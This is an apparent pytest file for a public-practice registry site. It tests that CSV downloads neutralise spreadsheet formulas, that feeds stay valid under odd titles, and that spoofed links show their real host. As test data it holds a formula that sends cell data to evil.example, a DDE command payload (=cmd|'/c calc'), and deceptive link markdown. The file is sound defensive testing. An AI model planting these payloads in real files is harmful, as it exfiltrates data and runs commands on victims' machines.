"""Rows F34, F35 and F36 on what leaves the site: pages, downloads and the feed of records that mean harm."""

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from tests import corpus
from tests.raw_server import ROOT
from tests.served_site import ServedSite, written_site
from tests.visitor import Visitor

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"klik")'
STARTS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", '=cmd|"/c calc"!A1')
ATOM = "{http://www.w3.org/2005/Atom}"
ODD_TITLE = "A ]]> & <b>tebal</b> \U0001f469\u200d\U0001f467\u200d\U0001f466 &amp; &#0;"


def _quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def _files() -> dict[str, str]:
    titles = [FORMULA, *(f"{start} praktik" for start in STARTS), "biasa;=1+1;@SUM(1)", "biasa; =1+1", ODD_TITLE]
    files = {f"kota-malang/judul-{at}.md": corpus.practice(_quoted(one)) for at, one in enumerate(titles)}
    extra = f'tags: ["{_quoted(FORMULA)}", "biasa"]\nowner_unit: "{_quoted(FORMULA)}"\n'
    extra += f'costs:\n  - {{item: "{_quoted(FORMULA)}", kind: bangun, amount_idr: 5, sources: [s1]}}\n'
    files["kota-malang/semua.md"] = corpus.practice("Judul biasa", summary="@SUM(1)\\n=1+1", extra=extra)
    files["kota-malang/kata.md"] = corpus.practice("K" * 130, summary="r" * 1_500, problem="kata" * 2_500)
    files["kota-malang/needs/rumus.yml"] = corpus.need(_quoted(FORMULA), extra='constraints: "=1+1"\n')
    files["_agreements/2017-rumus.md"] = corpus.agreement(_quoted(FORMULA), extra='scope: ["=1+1", "@SUM(1)"]\n')
    files["kota-padang/transfers/kota-malang/rumus.yml"] = corpus.transfer(extra='practice_name: "=1+1"\n')
    return files


@pytest.fixture(scope="module")
def harmful(tmp_path_factory: pytest.TempPathFactory) -> ServedSite:
    """Publish the records; none of them is held back."""
    site = written_site(tmp_path_factory.mktemp("rumus"), _files())
    assert sum(site.services.reader.home().counts.by_kind.get(kind, 0) for kind in KINDS) == len(_files())
    return site


KINDS = ("practice", "transfer", "agreement", "need")
TABLES = ("practices", "transfers", "agreements", "needs")


def _cells(text: str, separator: str) -> list[str]:
    """Cut a table into cells as a spreadsheet does."""
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def _runs(cell: str) -> bool:
    """Say whether a spreadsheet would take a cell for a formula."""
    return cell.lstrip(' "').startswith(tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20"))


@pytest.mark.parametrize("name", TABLES)
@pytest.mark.parametrize("separator", [",", ";"])
def test_f35_no_cell_of_a_download_is_a_formula(harmful: ServedSite, name: str, separator: str) -> None:
    """Neither as the file is meant, nor as Excel with Indonesian settings cuts it: at semicolons."""
    text = harmful.visitor().fetch(f"/data/{name}.csv").data.decode("utf-8-sig")
    assert [cell for cell in _cells(text, separator) if _runs(cell)] == []
    assert "'=" in text


def test_f35_the_program_writes_the_same(harmful: ServedSite, tmp_path: Path) -> None:
    """`registry export`, as a process: the title with a `'` in front, and nothing else of it changed."""
    environment = {"REGISTRY_CONTENT": str(harmful.content), "REGISTRY_INDEX": str(tmp_path / "index"), "PATH": ""}
    command = [sys.executable, "-m", "registry", "export", str(tmp_path / "unduhan")]
    subprocess.run(command, cwd=ROOT, env=environment, check=True, capture_output=True, timeout=60)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "unduhan/practices.csv").read_text("utf-8-sig"))))
    titles = {row["id"]: row["title"] for row in rows}
    assert titles["kota-malang/judul-0"] == f"'{FORMULA}"
    assert titles["kota-malang/judul-1"] == "'=1+1 praktik"
    assert titles["kota-malang/judul-7"] == "biasa;'=1+1;'@SUM(1)"
    assert len(rows) == sum(1 for path in _files() if re.fullmatch(r"kota-malang/[^/]+\.md", path))


@pytest.mark.parametrize("name", TABLES)
def test_f36_a_row_is_a_line_whatever_stands_in_it(harmful: ServedSite, name: str) -> None:
    """In the form for programs too, where nothing is changed."""
    visitor = harmful.visitor()
    table = visitor.fetch(f"/data/{name}.csv").data.decode("utf-8-sig")
    lines = visitor.fetch(f"/data/{name}.ndjson").data.decode().split("\n")
    records = [json.loads(line) for line in lines if line]
    assert table.count("\r\n") == table.count("\n") == len(records) + 1
    assert all(len(row) == len(table.partition("\r\n")[0].split(",")) for row in csv.reader(io.StringIO(table)))
    if name == "practices":
        assert {record["id"]: record["title"] for record in records}["kota-malang/judul-0"] == FORMULA
        assert ODD_TITLE in {record["title"] for record in records}


def test_f36_the_feed_is_valid_whatever_stands_in_a_title(harmful: ServedSite) -> None:
    """It is read by a strict reader, and says what the record says; long words stay whole."""
    answer = harmful.visitor().fetch("/feed.atom")
    assert answer.mimetype == "application/atom+xml"
    feed = ET.fromstring(answer.data)  # noqa: S314 - our own answer, and it must be read strictly
    entries = feed.findall(f"{ATOM}entry")
    titles = [entry.findtext(f"{ATOM}title") for entry in entries]
    assert len(entries) == len(_files())
    assert {ODD_TITLE, FORMULA, "K" * 130} <= set(titles)
    for entry in (feed, *entries):
        assert (entry.findtext(f"{ATOM}id") or "").startswith("http://praktik.example.go.id/")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT00:00:00Z", entry.findtext(f"{ATOM}updated") or "")


def test_f36_a_title_is_text_wherever_it_stands(harmful: ServedSite) -> None:
    """In the heading, the title of the tab, what social networks read, a card, and the answer for programs."""
    visitor: Visitor = harmful.visitor()
    (number,) = [at for at, text in enumerate(_files().values()) if "]]>" in text]
    page = visitor.get(f"/praktik/kota-malang/judul-{number}")
    seen = " ".join(ODD_TITLE.split())
    assert page.one("h1").text == seen
    assert seen in page.one("title").text
    assert page.one("meta", property="og:title")["content"].startswith(ODD_TITLE)
    assert seen in visitor.get("/cari?q=tebal").text
    assert visitor.json("/api/v1/search?q=tebal")["results"][0]["title"] == ODD_TITLE


@pytest.mark.parametrize(
    ("markdown", "host"),
    [
        ("[kota](//evil.example/x)", "evil.example"),
        (r"[kota](\\\\evil.example)", "evil.example"),
        ("[kota.go.id](https://kota.go.id.evil.example/)", "kota.go.id.evil.example"),
        ("[kota](https://kota.go.id@evil.example)", None),
        ("[kota](https://kota.go.id:80@evil.example/)", None),
        ("<https://kota.go.id@evil.example>", None),
    ],
)
def test_f34_a_served_page_shows_the_real_host(tmp_path: Path, markdown: str, host: str | None) -> None:
    """Whatever the words of a link say; with a user name in front of the host there is no link at all."""
    site = written_site(
        tmp_path, {"kota-malang/tautan.md": corpus.practice("Judul biasa", problem=f"Awal {markdown}.")}
    )
    page = site.visitor().get("/praktik/kota-malang/tautan")
    links = [link for link in page.all("a") if "evil" in link["href"]]
    if host is None:
        assert links == []
        return
    assert [link["href"].removesuffix("/").removesuffix("/x") for link in links] == [f"https://{host}"]
    assert links[0]["rel"] == "external nofollow noopener noreferrer"
    assert page.one("span", class_="link-host").text == f"({host})"
